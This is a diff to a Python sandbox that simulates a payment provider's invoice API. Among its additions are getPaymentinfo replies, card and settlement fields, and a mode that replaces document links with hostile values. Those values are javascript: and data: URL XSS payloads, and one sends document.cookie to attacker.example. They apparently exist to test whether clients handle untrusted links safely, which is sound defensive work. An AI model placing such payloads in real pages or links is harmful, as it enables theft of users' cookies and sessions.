@@ -6,6 +6,9 @@ pages do; which variant an invoice gets depends on its number, so every
 listing shows them all.
 """
 
+import datetime
+
+from sandbox import readings
 from sandbox.world import QVICKLY_MERCHANTS, short_form, world
 
 API_VERSION = "2.5.0"  # the latest; the getInvoiceByHash example reports it too
@@ -15,6 +18,13 @@ SERVICE_ID, MODULE_ID = 318004, 543210
 DOCUMENT_BASE = "https://documents.qvickly-sandbox.example"
 SHOP_BASE = "https://shop.qvickly-sandbox.example"
 NEVER = "0000-00-00 00:00:00"
+CARD_METHODS = ("8", "24", "266")  # Methods.md: card, card/bank, card (seamless)
+# What the "script" reading sends in place of every link: nothing a browser should follow.
+HOSTILE_LINKS = (
+    "javascript:alert(document.cookie)",
+    " JavaScript:fetch('https://attacker.example/?'+document.cookie)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
+)
 
 
 def single_object(invoice, logid: int) -> dict:
@@ -30,6 +40,75 @@ def single_object(invoice, logid: int) -> dict:
     }
 
 
+def payment_info(invoice) -> dict:
+    """getPaymentinfo's answer, as Get-payment-info.md documents it (not getInvoiceByHash's).
+
+    No number (the client asked with it), no due or paid date and no balance;
+    while the invoice is open the credit check's result stands in the status
+    (Status.md); Card comes with card payments and Settlement once the payment
+    has been paid out to the merchant.
+    """
+    customer = world().customer_by_identity(invoice.identity)
+    full = full_object(invoice, customer)
+    payment = full["PaymentData"]
+    reply = {
+        "PaymentData": {
+            "method": invoice.payment_method,
+            "paymentplanid": "1" if invoice.payment_method == "4" else "",
+            **{key: payment[key] for key in ("currency", "country", "language", "autoactivate", "orderid")},
+            "status": invoice.credit_check if invoice.is_open and invoice.credit_check else invoice.status,
+            "paymentid_related": invoice.credits_number,
+            "url": payment["url"],
+        },
+        "PaymentInfo": {
+            key: value for key, value in full["PaymentInfo"].items() if key not in ("invoiceStatus", "balancedue")
+        },
+    }
+    if invoice.payment_method in CARD_METHODS:
+        reply["Card"] = _card(invoice)
+    settlement = _settlement(invoice.paid_date)
+    if settlement is not None:
+        reply["Settlement"] = settlement
+    buyer = full["Customer"]
+    reply["Customer"] = {
+        "nr": buyer["nr"],
+        "pno": buyer["pno"].replace("-", ""),  # as the example writes it, + kept
+        "Billing": {"company": "", **buyer["Billing"]},
+        "Shipping": {"company": "", **buyer["Shipping"]},
+    }
+    reply["Articles"] = [
+        {**line, "tax": str(article.vat_ore)} for line, article in zip(full["Articles"], invoice.articles, strict=True)
+    ]
+    reply["Cart"] = full["Cart"]
+    return reply
+
+
+def _card(invoice):
+    n = int(invoice.number)
+    recurring = n % 3 == 0  # a subscription card: later payments reuse this one
+    return {
+        "promptname": "0",
+        "recurring": "1" if recurring else "0",
+        "recurringnr": invoice.number if recurring else "",
+        "accepturl": f"{SHOP_BASE}/accept",
+        "cancelurl": f"{SHOP_BASE}/cancel",
+        "callbackurl": f"{SHOP_BASE}/callback",
+        "returnmethod": "GET",
+    }
+
+
+def _settlement(paid_date):
+    """Paid out weekly, on the Monday after the payment, numbered by year and week;
+    None until that Monday has come."""
+    if paid_date is None:
+        return None
+    payout = paid_date + datetime.timedelta(days=7 - paid_date.weekday())
+    if payout > world().today:
+        return None
+    year, week, _ = payout.isocalendar()
+    return {"number": f"{year}{week:02d}", "date": payout.isoformat()}
+
+
 def summary_row(invoice, customer) -> dict:
     """A summary row; amounts in kronor.
 
@@ -39,7 +118,12 @@ def summary_row(invoice, customer) -> dict:
     """
     number = int(invoice.number)
     as_text = number % 2 == 0
-    topay = 0 if invoice.status == "Cancelled" else invoice.total_ore  # as in the docs' cancelled row
+    # 0 on a cancelled row, as in the docs' example; whether a paid one keeps its total
+    # is undocumented, and one reading says 0 there too.
+    zeroed = invoice.status == "Cancelled" or (
+        not invoice.is_open and readings.current("qvickly_settled_topay") == "zero"
+    )
+    topay = 0 if zeroed else invoice.total_ore
     ident = str if as_text else int
     row = {
         "status": _row_status(invoice),
@@ -48,7 +132,7 @@ def summary_row(invoice, customer) -> dict:
         "duedate": invoice.due_date.isoformat(),
         "topay": _kronor_text(topay),
         "invoiceid_real": ident(invoice.number),
-        "fileurl": f"{DOCUMENT_BASE}/mexc/customerinvoices/{invoice.hash}.pdf",
+        "fileurl": _link(f"{DOCUMENT_BASE}/mexc/customerinvoices/{invoice.hash}.pdf", invoice),
         "balancedue": _kronor_text(invoice.balance_ore) if as_text else _kronor_number(invoice.balance_ore),
         "invoicetype": invoice.invoice_type,
         "distributor_status": invoice.distributor_status,
@@ -61,6 +145,12 @@ def summary_row(invoice, customer) -> dict:
     if number % 3 == 0:
         del row["fileurl"]  # "The fileurl is not always present."
     return row
+
+
+def _link(url, invoice):
+    if readings.current("qvickly_links") == "script":
+        return HOSTILE_LINKS[int(invoice.number) % len(HOSTILE_LINKS)]
+    return url
 
 
 def _row_status(invoice):
@@ -115,7 +205,7 @@ def _payment_data(invoice, customer):
         "returnmethod": "",
         "callbackurl": f"{SHOP_BASE}/callback",
         "alladdresses": _all_addresses(customer) or "",
-        "url": f"{DOCUMENT_BASE}/invoice/{next(iter(QVICKLY_MERCHANTS))}/{invoice.hash}",
+        "url": _link(f"{DOCUMENT_BASE}/invoice/{next(iter(QVICKLY_MERCHANTS))}/{invoice.hash}", invoice),
         "mexcCustomerinvoicesid": str(_internal_id(invoice)),
         "number": invoice.number,
         "duedate": invoice.due_date.isoformat(),
